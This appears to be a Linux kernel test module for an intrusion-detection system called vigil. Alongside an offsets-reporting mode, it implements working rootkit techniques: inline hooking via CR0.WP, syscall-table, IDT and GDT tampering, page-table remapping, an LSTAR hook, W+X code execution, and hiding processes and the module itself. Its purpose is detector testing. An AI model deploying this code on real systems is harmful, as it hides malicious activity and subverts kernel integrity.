// SPDX-License-Identifier: GPL-2.0
/*
 * vigiltest: vigil's test module for Linux guests. One module, techniques
 * chosen by `mode=` at load time (tests/linux/init passes the kernel
 * command line's vigilmod=MODE). Each mode prints its proof on the console
 * as "VIGIL-MOD ..." lines and leaves the module loaded.
 *
 *   offsets  the kernel's own view of what vigil's profile says
 *            (build/linux.profile, docs/profile.md): offsetof/sizeof of
 *            the structures, in the profile's own record format, the
 *            run-time addresses of the symbols, LSTAR, and the physical
 *            address of the kernel text. tests/system/test_linux_ids.py
 *            compares them with the profile and with the KASLR slide vigil
 *            reported.
 *
 * The rootkit techniques (tests/system/test_linux_ids.py runs each bare and
 * under vigil). Each checks its effect and prints "VIGIL-MOD <mode> ok: ..."
 * when it worked, "VIGIL-MOD <mode> failed: ..." when it did not (a write
 * vigil refused is skipped: the code goes on and finds it had no effect; a
 * write that faults is caught by the nofault copy). Each puts back what it
 * changed once it has shown it.
 *
 *   inline-hook    clears CR0.WP with a plain mov (Linux's native_write_cr0
 *                  would pin it), writes a jmp to its own function over the
 *                  start of __x64_sys_ni_syscall, calls it; if the write
 *                  faults (WP still set), tries again through a writable
 *                  alias (vmap of the text frame), as a rootkit would;
 *                  when it failed, the insmod stays a second (the IDS test's
 *                  operator looks at it with ps)
 *   syscall-table  writes sys_call_table[__NR_getppid] through a writable
 *                  alias of its (read-only) page
 *   idt-gate       writes the gate of vector 4 (#OF, which 64-bit code never
 *                  raises) in idt_table through a writable alias
 *   gdt-desc       writes a DPL-3 code descriptor into CPU 0's unused GDT
 *                  descriptor 7 (where a rootkit's own gate would point),
 *                  and looks again 300 ms later
 *   remap-text     points the kernel's mapping of __x64_sys_ni_syscall's
 *                  page at a patched copy: a page table of its own in place
 *                  of the 2 MiB mapping (or the 4 KiB PTE repointed)
 *   remap-idt      points the PTE of the IDT's read-only alias (the CPU
 *                  entry area's, which the IDTR holds) at a copy with
 *                  vector 4's gate changed
 *   text-poke      calls the kernel's text_poke (found through kallsyms) to
 *                  write the jmp: not a patch site of the kernel's. Under
 *                  vigil's block text_poke's own check then BUGs (the
 *                  insmod dies): run it last.
 *
 *   hide-process  DKOM: the process named "vhide" (tests/linux/prog/vhide.c,
 *            started by /init on vigilprog=vhide) is unlinked from the task
 *            list (list_del_init on task->tasks, under tasklist_lock, found
 *            through kallsyms as it is not exported) and
 *            its pid is taken out of the pid namespace's lookup (the idr
 *            slot is set to NULL: /proc's listing, and so ps, no longer
 *            has it, and the number stays taken; a /proc/N dentry already
 *            cached still resolves through the struct pid). The task's
 *            struct pid (the pid hash) is left alone. It keeps running:
 *            the scheduler does not use the list. Proof: "VIGIL-MOD
 *            hide-process hidden pid N comm vhide tsc T", then /init finds
 *            N gone from /proc's listing and ps while vhide prints.
 *
 *   lstar    a system-call hook: LSTAR pointed at a trampoline of the
 *            module's that jumps on to the real entry_SYSCALL_64. Under
 *            KPTI the module's text is not mapped in the user page tables
 *            a SYSCALL starts on, so a live hook would fault at the next
 *            system call from user mode: the mode installs it with
 *            interrupts off, reads LSTAR back (the proof, "VIGIL-MOD hook
 *            lstar ... took yes"), and
 *            puts the kernel's entry back before anything else runs on the
 *            CPU. Under vigil the write is refused ("took no").
 *   hide-module  the module takes itself out of the kernel's module list
 *            (list_del_rcu on THIS_MODULE->list, under module_mutex found
 *            through kallsyms) and out of sysfs (kobject_del: the next
 *            insmod of vigiltest can then load), takes a reference on
 *            itself (rmmod cannot reach it anyway), and keeps running: a
 *            timer in its text prints "VIGIL-MOD hide-module still runs N"
 *            five times, 200 ms apart. /init then finds it in neither
 *            /proc/modules nor /sys/module. Its memory stays (it never
 *            unloads): run it before text-poke, after every other mode.
 *   wx-exec  code run from a W+X kernel allocation: a vmalloc'd page made
 *            executable with set_memory_x (both found through kallsyms)
 *            while it stays writable, code copied into it and called
 *            (proof: it returns 0x5649474c), then kept mapped for 300 ms
 *            (a rootkit keeps its code) and freed. The call is made in a
 *            kernel thread of its own (see rox-exec).
 *   rox-exec code run from a kernel allocation that is not module text and
 *            never W+X: a vmalloc'd page, code copied in, then made
 *            read-only and executable (set_memory_ro, set_memory_x), and
 *            called (proof: "rox-exec ok: ... returned 0x5649474c"). No
 *            audit of mappings sees it; only an execute watch can. The call
 *            runs in a kernel thread of its own: refused (a #PF), the
 *            kernel oopses in that thread only, and the insmod, which waits
 *            for it 1 s, says "rox-exec failed" and goes on (the page is
 *            then left allocated).
 *
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/mm_types.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/dcache.h>
#include <linux/net.h>
#include <net/sock.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>
#include <linux/mm.h>
#include <linux/gfp.h>
#include <linux/idr.h>
#include <linux/pid_namespace.h>
#include <linux/delay.h>
#include <linux/kthread.h>
#include <linux/completion.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <asm/page.h>
#include <asm/pgtable.h>
#include <asm/unistd.h>
#include <asm/trapnr.h>
#include <asm/desc.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vigil's test module: the kernel's own view for the IDS tests");

static char *mode = "offsets";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "what to do at load: offsets, hide-process, lstar, wx-exec, rox-exec, inline-hook, syscall-table, idt-gate, gdt-desc, remap-text, remap-idt, text-poke, hide-module");

/* kallsyms_lookup_name is not exported: its address from a kprobe on it. */
typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;

static int find_lookup(void)
{
	/* Registered disabled: resolved, never armed (an armed kprobe writes an
	 * int3 or an ftrace call into the kernel's text). */
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED };
	int r = register_kprobe(&kp);

	if (r < 0)
		return r;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

#define STRUCT(s) pr_info("VIGIL-MOD struct %s %zu\n", #s, sizeof(struct s))
#define FIELD(s, f) pr_info("VIGIL-MOD struct %s.%s %zu %zu\n", #s, #f, offsetof(struct s, f), \
			    sizeof(((struct s *)0)->f))

static void mode_offsets(void)
{
	static const char *const syms[] = {
		"_text", "_stext", "_etext", "__start_rodata", "__end_rodata", "_end", "init_task",
		"init_mm", "init_top_pgt", "sys_call_table", "x64_sys_call", "idt_table",
		"entry_SYSCALL_64", "modules", "page_offset_base", "__per_cpu_offset", "linux_banner",
	};
	struct task_struct *t;
	unsigned long a;
	u64 lstar;
	int i;

	STRUCT(task_struct);
	FIELD(task_struct, tasks);
	FIELD(task_struct, pid);
	FIELD(task_struct, tgid);
	FIELD(task_struct, comm);
	FIELD(task_struct, mm);
	FIELD(task_struct, active_mm);
	FIELD(task_struct, real_parent);
	FIELD(task_struct, flags);
	FIELD(task_struct, __state);
	FIELD(task_struct, files);
	FIELD(task_struct, thread_group);
	STRUCT(mm_struct);
	FIELD(mm_struct, pgd);
	FIELD(list_head, next);
	FIELD(list_head, prev);
	STRUCT(module);
	FIELD(module, list);
	FIELD(module, name);
	FIELD(module, state);
	FIELD(module, core_layout.base);
	FIELD(module, core_layout.size);
	FIELD(module, core_layout.text_size);
	FIELD(module, core_layout.ro_size);
	FIELD(module, init_layout.base);
	FIELD(module, init_layout.size);
	FIELD(module, init_layout.text_size);
	FIELD(files_struct, fdt);
	FIELD(fdtable, max_fds);
	FIELD(fdtable, fd);
	FIELD(file, f_op);
	FIELD(file, private_data);
	FIELD(socket, type);
	FIELD(socket, sk);
	FIELD(sock, sk_type);
	FIELD(sock, sk_protocol);
	FIELD(sock, __sk_common.skc_family);
	FIELD(kprobe_insn_cache, pages);
	/* program-integrity: the program a process runs (mm->exe_file's dentry's name) */
	FIELD(mm_struct, exe_file);
	FIELD(file, f_path.dentry);
	FIELD(dentry, d_name.name);

	pr_info("VIGIL-MOD runtime init_task 0x%lx\n", (unsigned long)&init_task);
	if (lookup)
		for (i = 0; i < ARRAY_SIZE(syms); i++) {
			a = lookup(syms[i]);
			if (a)
				pr_info("VIGIL-MOD runtime %s 0x%lx\n", syms[i], a);
		}
	rdmsrl(MSR_LSTAR, lstar);
	pr_info("VIGIL-MOD lstar 0x%llx\n", lstar);
	pr_info("VIGIL-MOD page_offset_base 0x%lx\n", page_offset_base);
	pr_info("VIGIL-MOD phys_base 0x%lx\n", (unsigned long)phys_base);
	if (lookup && (a = lookup("_text")))
		pr_info("VIGIL-MOD phys _text 0x%lx\n", (unsigned long)__pa_symbol(a));
	if (lookup && (a = lookup("init_top_pgt")))
		pr_info("VIGIL-MOD phys init_top_pgt 0x%lx\n", (unsigned long)__pa_symbol(a));
	pr_info("VIGIL-MOD self pid %d comm %s pgd 0x%lx\n", current->pid, current->comm,
		current->mm ? (unsigned long)__pa(current->mm->pgd) : 0ul);
	/* pid 1 (/init's shell: its mm lives as long as the workload) */
	rcu_read_lock();
	for_each_process(t)
		if (t->pid == 1 && t->mm)
			pr_info("VIGIL-MOD task 1 comm %s pgd 0x%lx\n", t->comm, (unsigned long)__pa(t->mm->pgd));
	rcu_read_unlock();
}

/* --- the rootkit techniques ------------------------------------------------------ */

#define TARGET "__x64_sys_ni_syscall"		/* a core function nothing calls here */
#define HOOKED 0x7e57

static long hook_fn(const struct pt_regs *regs)
{
	return HOOKED;
}

static void make_jmp(u8 *insn, unsigned long at, unsigned long to)
{
	s32 rel = (s32)(to - (at + 5));

	insn[0] = 0xe9;
	memcpy(insn + 1, &rel, 4);
}

static unsigned long cr0_get(void)
{
	unsigned long v;

	asm volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static void cr0_set(unsigned long v)
{
	asm volatile("mov %0, %%cr0" : : "r"(v) : "memory");
}

/* copy_to_kernel_nofault is not exported: the same, a byte at a time. A
 * write that faults (read-only, CR0.WP set) returns -EFAULT. */
static int put_nofault(void *dst, const u8 *src, size_t n)
{
	size_t i;

	pagefault_disable();
	for (i = 0; i < n; i++)
		__put_kernel_nofault((u8 *)dst + i, src + i, u8, fault);
	pagefault_enable();
	return 0;
fault:
	pagefault_enable();
	return -EFAULT;
}

/* Write n bytes at a kernel image address through a writable alias of its
 * frame (vmap): the protection of the kernel's own mapping does not apply. */
static int alias_write(unsigned long addr, const void *src, size_t n)
{
	struct page *pg = pfn_to_page(__pa_symbol(addr) >> PAGE_SHIFT);
	u8 *m;

	if (offset_in_page(addr) + n > PAGE_SIZE)
		return -EINVAL;
	m = vmap(&pg, 1, VM_MAP, PAGE_KERNEL);
	if (!m)
		return -ENOMEM;
	memcpy(m + offset_in_page(addr), src, n);
	vunmap(m);
	return 0;
}

static unsigned long need(const char *name)
{
	unsigned long a = lookup ? lookup(name) : 0;

	if (!a)
		pr_info("VIGIL-MOD %s failed: no symbol %s\n", mode, name);
	return a;
}

static void mode_inline_hook(void)
{
	unsigned long t = need(TARGET), cr0;
	long (*fn)(const struct pt_regs *) = (void *)t;
	u8 orig[5], jmp[5];
	int r;
	bool wp;
	long ret;

	if (!t)
		return;
	if (copy_from_kernel_nofault(orig, (void *)t, 5))
		return;
	make_jmp(jmp, t, (unsigned long)hook_fn);
	cr0 = cr0_get();
	cr0_set(cr0 & ~X86_CR0_WP);
	wp = cr0_get() & X86_CR0_WP;
	pr_info("VIGIL-MOD inline-hook CR0.WP %s\n", wp ? "still set: the clear was refused" : "cleared");
	r = put_nofault((void *)t, jmp, 5);
	cr0_set(cr0);
	if (r) {
		pr_info("VIGIL-MOD inline-hook write with CR0.WP faulted (%d): through a writable alias\n", r);
		r = alias_write(t, jmp, 5);
	}
	ret = fn(NULL);
	if (r || memcmp((void *)t, jmp, 5) || ret != HOOKED) {
		pr_info("VIGIL-MOD inline-hook failed: %s unchanged (%*ph), it returns %ld\n", TARGET, 5, (void *)t, ret);
		msleep(1000);			/* the insmod stays a second: the operator looks (ps) */
		return;
	}
	pr_info("VIGIL-MOD inline-hook ok: %s jumps to the module (%*ph), returns 0x%lx\n", TARGET, 5, (void *)t, ret);
	cr0_set(cr0 & ~X86_CR0_WP);
	r = put_nofault((void *)t, orig, 5);
	cr0_set(cr0);
	pr_info("VIGIL-MOD inline-hook put back: %s\n", r ? "failed" : "ok");
}

static void mode_syscall_table(void)
{
	unsigned long t = need("sys_call_table");
	unsigned long *tab = (unsigned long *)t, old, hook = (unsigned long)hook_fn;

	if (!t)
		return;
	old = tab[__NR_getppid];
	if (alias_write((unsigned long)&tab[__NR_getppid], &hook, 8) || tab[__NR_getppid] != hook) {
		pr_info("VIGIL-MOD syscall-table failed: entry %d unchanged (0x%lx)\n", __NR_getppid, tab[__NR_getppid]);
		return;
	}
	pr_info("VIGIL-MOD syscall-table ok: entry %d now 0x%lx (was 0x%lx)\n", __NR_getppid, tab[__NR_getppid], old);
	alias_write((unsigned long)&tab[__NR_getppid], &old, 8);
}

static void mode_idt_gate(void)
{
	unsigned long t = need("idt_table");
	gate_desc *idt = (gate_desc *)t, old, g;
	unsigned long h = (unsigned long)hook_fn;

	if (!t)
		return;
	old = g = idt[X86_TRAP_OF];
	g.offset_low = (u16)h;
	g.offset_middle = (u16)(h >> 16);
	g.offset_high = (u32)(h >> 32);
	if (alias_write((unsigned long)&idt[X86_TRAP_OF], &g, sizeof(g)) || memcmp(&idt[X86_TRAP_OF], &g, sizeof(g))) {
		pr_info("VIGIL-MOD idt-gate failed: vector %d unchanged (handler 0x%lx)\n", X86_TRAP_OF,
			gate_offset(&idt[X86_TRAP_OF]));
		return;
	}
	pr_info("VIGIL-MOD idt-gate ok: vector %d now 0x%lx (was 0x%lx)\n", X86_TRAP_OF, gate_offset(&idt[X86_TRAP_OF]),
		gate_offset(&old));
	alias_write((unsigned long)&idt[X86_TRAP_OF], &old, sizeof(old));
}

static void mode_gdt_desc(void)
{
	struct desc_struct *gdt = get_cpu_gdt_rw(0);
	u64 *d = (u64 *)&gdt[7], old = *d, door = 0x00cffa000000ffffull;	/* 32-bit code, DPL 3 */

	WRITE_ONCE(*d, door);
	msleep(300);				/* longer than vigil's check interval (100 ms) */
	if (READ_ONCE(*d) != door) {
		pr_info("VIGIL-MOD gdt-desc failed: descriptor 7 of CPU 0 is 0x%016llx again\n", READ_ONCE(*d));
		return;
	}
	pr_info("VIGIL-MOD gdt-desc ok: descriptor 7 of CPU 0 is 0x%016llx (was 0x%016llx) 300 ms later\n", *d, old);
	WRITE_ONCE(*d, old);
}

static void flush_one(unsigned long a)
{
	asm volatile("invlpg (%0)" : : "r"(a) : "memory");
}

static void mode_remap_text(void)
{
	unsigned long t = need(TARGET), top = need("init_top_pgt"), page = t & PAGE_MASK;
	pgd_t *pgd;
	pud_t *pud;
	pmd_t *pmd, oldpmd;
	pte_t *pt = NULL, *pte = NULL, oldpte = __pte(0);
	u8 *copy, jmp[5];
	unsigned long pfn;
	bool large;
	int i;

	if (!t || !top)
		return;
	pgd = (pgd_t *)top + pgd_index(t);
	pud = (pud_t *)__va(pgd_val(*pgd) & PTE_PFN_MASK) + pud_index(t);
	pmd = (pmd_t *)__va(pud_val(*pud) & PTE_PFN_MASK) + pmd_index(t);
	oldpmd = *pmd;
	large = pmd_val(oldpmd) & _PAGE_PSE;
	copy = (u8 *)__get_free_page(GFP_KERNEL);
	if (!copy)
		return;
	memcpy(copy, (void *)page, PAGE_SIZE);
	make_jmp(jmp, t, (unsigned long)hook_fn);
	memcpy(copy + offset_in_page(t), jmp, 5);
	if (large) {
		/* A table of its own for the 2 MiB: the same frames, but this page's is the copy. */
		unsigned long base = pmd_val(oldpmd) & PMD_MASK & PTE_PFN_MASK;
		pteval_t prot = (pmd_val(oldpmd) & ~(PTE_PFN_MASK | _PAGE_PSE)) & ~_PAGE_PAT_LARGE;

		pt = (pte_t *)get_zeroed_page(GFP_KERNEL);
		if (!pt) {
			free_page((unsigned long)copy);
			return;
		}
		for (i = 0; i < PTRS_PER_PTE; i++)
			pt[i] = __pte((base + ((unsigned long)i << PAGE_SHIFT)) | prot);
		pt[pte_index(t)] = __pte(__pa(copy) | prot);
		WRITE_ONCE(*(pmdval_t *)pmd, __pa(pt) | _KERNPG_TABLE);
	} else {
		pte = (pte_t *)__va(pmd_val(oldpmd) & PTE_PFN_MASK) + pte_index(t);
		oldpte = *pte;
		pfn = __pa(copy) >> PAGE_SHIFT;
		WRITE_ONCE(*(pteval_t *)pte, (pte_val(oldpte) & ~PTE_PFN_MASK) | (pfn << PAGE_SHIFT));
	}
	flush_one(t);
	if (memcmp((void *)t, jmp, 5)) {
		pr_info("VIGIL-MOD remap-text failed: %s still reads %*ph (the %s was put back)\n", TARGET, 5, (void *)t,
			large ? "PMD" : "PTE");
	} else {
		pr_info("VIGIL-MOD remap-text ok: %s reads %*ph through a %s of the module's\n", TARGET, 5, (void *)t,
			large ? "page table" : "PTE");
	}
	if (large)
		WRITE_ONCE(*(pmdval_t *)pmd, pmd_val(oldpmd));
	else
		WRITE_ONCE(*(pteval_t *)pte, pte_val(oldpte));
	flush_one(t);
	if (!memcmp((void *)t, jmp, 5)) {
		pr_info("VIGIL-MOD remap-text put back: failed (the copy stays in use)\n");
		return;
	}
	if (pt)
		free_page((unsigned long)pt);
	free_page((unsigned long)copy);
}

/* The IDTR holds the IDT's read-only alias in the CPU entry area: point
 * that alias's PTE at a copy with a gate of the module's. */
#define RO_IDT 0xfffffe0000000000ul		/* CPU_ENTRY_AREA_RO_IDT */

static void mode_remap_idt(void)
{
	unsigned long top = need("init_top_pgt"), h = (unsigned long)hook_fn;
	gate_desc *alias = (gate_desc *)RO_IDT, *copy;
	pgd_t *pgd;
	pud_t *pud;
	pmd_t *pmd;
	pte_t *pte, old;

	if (!top)
		return;
	pgd = (pgd_t *)top + pgd_index(RO_IDT);
	pud = (pud_t *)__va(pgd_val(*pgd) & PTE_PFN_MASK) + pud_index(RO_IDT);
	pmd = (pmd_t *)__va(pud_val(*pud) & PTE_PFN_MASK) + pmd_index(RO_IDT);
	if ((pud_val(*pud) | pmd_val(*pmd)) & _PAGE_PSE) {
		pr_info("VIGIL-MOD remap-idt failed: the alias is not mapped by a 4 KiB PTE\n");
		return;
	}
	pte = (pte_t *)__va(pmd_val(*pmd) & PTE_PFN_MASK) + pte_index(RO_IDT);
	old = *pte;
	copy = (gate_desc *)__get_free_page(GFP_KERNEL);
	if (!copy)
		return;
	memcpy(copy, alias, PAGE_SIZE);
	copy[X86_TRAP_OF].offset_low = (u16)h;
	copy[X86_TRAP_OF].offset_middle = (u16)(h >> 16);
	copy[X86_TRAP_OF].offset_high = (u32)(h >> 32);
	WRITE_ONCE(*(pteval_t *)pte, (pte_val(old) & ~PTE_PFN_MASK) | __pa(copy));
	flush_one(RO_IDT);
	if (gate_offset(&alias[X86_TRAP_OF]) != h)
		pr_info("VIGIL-MOD remap-idt failed: the IDTR's IDT (0x%lx) still has vector %d at 0x%lx (the PTE was "
			"put back)\n", RO_IDT, X86_TRAP_OF, gate_offset(&alias[X86_TRAP_OF]));
	else
		pr_info("VIGIL-MOD remap-idt ok: the IDTR's IDT (0x%lx) has vector %d at 0x%lx, from a copy of the "
			"module's\n", RO_IDT, X86_TRAP_OF, gate_offset(&alias[X86_TRAP_OF]));
	WRITE_ONCE(*(pteval_t *)pte, pte_val(old));
	flush_one(RO_IDT);
	if (gate_offset(&alias[X86_TRAP_OF]) == h) {
		pr_info("VIGIL-MOD remap-idt put back: failed (the copy stays in use)\n");
		return;
	}
	free_page((unsigned long)copy);
}

typedef void *(*text_poke_fn)(void *addr, const void *opcode, size_t len);

static void mode_text_poke(void)
{
	unsigned long t = need(TARGET), tp = need("text_poke");
	long (*fn)(const struct pt_regs *) = (void *)t;
	u8 orig[5], jmp[5];

	if (!t || !tp)
		return;
	memcpy(orig, (void *)t, 5);
	make_jmp(jmp, t, (unsigned long)hook_fn);
	pr_info("VIGIL-MOD text-poke calling text_poke(%s)\n", TARGET);
	((text_poke_fn)tp)((void *)t, jmp, 5);      /* text_mutex not taken: lockdep is off in Debian's kernel */
	if (memcmp((void *)t, jmp, 5) || fn(NULL) != HOOKED) {
		pr_info("VIGIL-MOD text-poke failed: %s unchanged (%*ph)\n", TARGET, 5, (void *)t);
		return;
	}
	pr_info("VIGIL-MOD text-poke ok: %s jumps to the module (%*ph)\n", TARGET, 5, (void *)t);
	((text_poke_fn)tp)((void *)t, orig, 5);
}

static int mode_hide_process(void)
{
	struct task_struct *t, *victim = NULL;
	rwlock_t *tl = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;  /* not exported */
	int pid;

	if (!tl) {
		pr_info("VIGIL-MOD hide-process: tasklist_lock not found\n");
		return -ENOENT;
	}
	write_lock_irq(tl);
	for_each_process(t)
		if (!strcmp(t->comm, "vhide") && t->mm) {
			victim = t;
			break;
		}
	if (!victim) {
		write_unlock_irq(tl);
		pr_info("VIGIL-MOD hide-process: no process named vhide (vigilprog=vhide starts it)\n");
		return -ESRCH;
	}
	pid = victim->tgid;
	list_del_init(&victim->tasks);          /* gone from for_each_process; a later exit unlinks nothing */
	idr_replace(&init_pid_ns.idr, NULL, pid); /* /proc's readdir and lookup go through the idr */
	write_unlock_irq(tl);
	pr_info("VIGIL-MOD hide-process hidden pid %d comm vhide tsc %llu\n", pid, (unsigned long long)rdtsc());
	msleep(200);                            /* the hidden process has the CPU */
	return 0;
}

/* lstar: the trampoline, in the module's text */
unsigned long vigil_real_entry;
void vigil_lstar_tramp(void);
asm(".pushsection .text\n"
    ".globl vigil_lstar_tramp\n"
    ".type vigil_lstar_tramp, @function\n"
    "vigil_lstar_tramp:\n"
    ANNOTATE_RETPOLINE_SAFE
    "\tjmp *vigil_real_entry(%rip)\n"
    ".size vigil_lstar_tramp, . - vigil_lstar_tramp\n"
    ".popsection\n");

static int mode_lstar(void)
{
	unsigned long flags, tramp = (unsigned long)vigil_lstar_tramp;
	u64 orig, now;

	rdmsrl(MSR_LSTAR, orig);
	vigil_real_entry = orig;
	local_irq_save(flags);
	wrmsrl(MSR_LSTAR, tramp);
	rdmsrl(MSR_LSTAR, now);
	wrmsrl(MSR_LSTAR, orig);                /* KPTI: see above */
	local_irq_restore(flags);
	pr_info("VIGIL-MOD hook lstar trampoline 0x%lx to entry 0x%llx took %s (LSTAR read back 0x%llx)\n", tramp, orig,
		now == tramp ? "yes" : "no", now);
	return 0;
}

/* wx-exec: endbr64; mov $0x5649474c, %eax; ret */
static const u8 wx_code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x4c, 0x47, 0x49, 0x56, 0xc3 };

/* --- a call that an execute watch may refuse: in a kernel thread of its own ----
 * A refused fetch is a #PF; the kernel oopses in the context that made
 * the call. In insmod's own, the module would stay half-loaded (COMING)
 * and every later insmod of vigiltest would wait for it; in a timer it
 * would panic. A thread of its own dies alone. True when the call
 * returned within 1 s (*r: its value). */
static struct xrun {
	unsigned int (*fn)(void);
	unsigned int r;
	struct completion done;
} xrun;

static int xrun_thread(void *p)
{
	struct xrun *x = p;

	x->r = x->fn();
	complete(&x->done);
	return 0;
}

static bool run_apart(void *code, unsigned int *r)
{
	struct task_struct *t;

	xrun.fn = code;
	init_completion(&xrun.done);
	t = kthread_run(xrun_thread, &xrun, "vigil-xrun");
	if (IS_ERR(t) || !wait_for_completion_timeout(&xrun.done, msecs_to_jiffies(1000)))
		return false;
	*r = xrun.r;
	return true;
}

static int mode_rox_exec(void)
{
	int (*set_ro)(unsigned long addr, int numpages);
	int (*set_x)(unsigned long addr, int numpages);
	unsigned int r;
	void *page;

	set_ro = lookup ? (void *)lookup("set_memory_ro") : NULL;
	set_x = lookup ? (void *)lookup("set_memory_x") : NULL;
	if (!set_ro || !set_x) {
		pr_info("VIGIL-MOD rox-exec failed: set_memory_ro or set_memory_x not found\n");
		return -ENOENT;
	}
	page = vmalloc(PAGE_SIZE);
	if (!page)
		return -ENOMEM;
	memcpy(page, wx_code, sizeof(wx_code));
	if (set_ro((unsigned long)page, 1) || set_x((unsigned long)page, 1)) {
		pr_info("VIGIL-MOD rox-exec failed: set_memory_ro/x refused\n");
		return -EPERM;                  /* the page stays allocated: its rights are unknown */
	}
	pr_info("VIGIL-MOD rox-exec page 0x%lx read-only and executable, not module text\n", (unsigned long)page);
	if (!run_apart(page, &r)) {
		pr_info("VIGIL-MOD rox-exec failed: the call at 0x%lx did not return (its thread died)\n",
			(unsigned long)page);
		return 0;                       /* the page stays: the dead thread's */
	}
	pr_info("VIGIL-MOD rox-exec ok: ran code at 0x%lx: returned 0x%x\n", (unsigned long)page, r);
	return 0;                               /* kept: a vmalloc'd page reset to RW+NX needs set_memory_* again */
}

static int mode_wx_exec(void)
{
	int (*set_x)(unsigned long addr, int numpages);
	unsigned int r;
	void *page;

	set_x = lookup ? (void *)lookup("set_memory_x") : NULL;
	if (!set_x) {
		pr_info("VIGIL-MOD wx-exec: set_memory_x not found\n");
		return -ENOENT;
	}
	page = vmalloc(PAGE_SIZE);
	if (!page)
		return -ENOMEM;
	memcpy(page, wx_code, sizeof(wx_code));
	if (set_x((unsigned long)page, 1)) {
		pr_info("VIGIL-MOD wx-exec: set_memory_x failed\n");
		vfree(page);
		return -EPERM;
	}
	pr_info("VIGIL-MOD wx-exec page 0x%lx writable and executable\n", (unsigned long)page);
	if (!run_apart(page, &r)) {
		pr_info("VIGIL-MOD wx-exec failed: the call at 0x%lx did not return (its thread died)\n",
			(unsigned long)page);
		msleep(300);
		return 0;                       /* the page stays: the dead thread's */
	}
	pr_info("VIGIL-MOD wx-exec ran code at 0x%lx: returned 0x%x\n", (unsigned long)page, r);
	msleep(300);
	vfree(page);                            /* vfree resets the page's permissions */
	return 0;
}

/* --- hide-module -------------------------------------------------------------- */

static struct timer_list hm_timer;
static int hm_runs;

static void hm_tick(struct timer_list *t)
{
	hm_runs++;
	pr_info("VIGIL-MOD hide-module still runs %d: timer at 0x%lx, in the hidden module's text\n", hm_runs,
		(unsigned long)hm_tick);
	if (hm_runs < 5)
		mod_timer(&hm_timer, jiffies + msecs_to_jiffies(200));
}

static int mode_hide_module(void)
{
	struct mutex *mm = (struct mutex *)need("module_mutex");
	struct module *m = THIS_MODULE;

	if (!mm)
		return -ENOENT;
	__module_get(m);			/* a reference of its own: never unloaded */
	mutex_lock(mm);
	list_del_rcu(&m->list);
	mutex_unlock(mm);
	kobject_del(&m->mkobj.kobj);
	pr_info("VIGIL-MOD hide-module hidden: %s out of the module list and sysfs, text 0x%lx-0x%lx\n", m->name,
		(unsigned long)m->core_layout.base, (unsigned long)m->core_layout.base + m->core_layout.text_size);
	pr_info("VIGIL-MOD hide-module init text 0x%lx-0x%lx, running\n", (unsigned long)m->init_layout.base,
		(unsigned long)m->init_layout.base + m->init_layout.text_size);
	timer_setup(&hm_timer, hm_tick, 0);
	mod_timer(&hm_timer, jiffies + msecs_to_jiffies(200));
	return 0;
}

static int __init vigiltest_init(void)
{
	int r = find_lookup();

	if (r)
		pr_info("VIGIL-MOD no kallsyms_lookup_name (kprobe: %d)\n", r);
	pr_info("VIGIL-MOD start mode=%s\n", mode);
	if (!strcmp(mode, "offsets")) {
		mode_offsets();
	} else if (!strcmp(mode, "hide-process")) {
		r = mode_hide_process();
		if (r)
			return r;
	} else if (!strcmp(mode, "lstar")) {
		mode_lstar();
	} else if (!strcmp(mode, "wx-exec")) {
		r = mode_wx_exec();
		if (r)
			return r;
	} else if (!strcmp(mode, "rox-exec")) {
		r = mode_rox_exec();
		if (r)
			return r;
	} else if (!strcmp(mode, "inline-hook")) {
		mode_inline_hook();
	} else if (!strcmp(mode, "syscall-table")) {
		mode_syscall_table();
	} else if (!strcmp(mode, "idt-gate")) {
		mode_idt_gate();
	} else if (!strcmp(mode, "gdt-desc")) {
		mode_gdt_desc();
	} else if (!strcmp(mode, "remap-idt")) {
		mode_remap_idt();
	} else if (!strcmp(mode, "remap-text")) {
		mode_remap_text();
	} else if (!strcmp(mode, "text-poke")) {
		mode_text_poke();
	} else if (!strcmp(mode, "hide-module")) {
		r = mode_hide_module();
		if (r)
			return r;
	} else {
		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets hide-process lstar wx-exec rox-exec inline-hook syscall-table idt-gate gdt-desc remap-text remap-idt text-poke hide-module\n", mode);
		return -EINVAL;
	}
	pr_info("VIGIL-MOD done mode=%s\n", mode);
	return 0;
}

static void __exit vigiltest_exit(void)
{
}

module_init(vigiltest_init);
module_exit(vigiltest_exit);
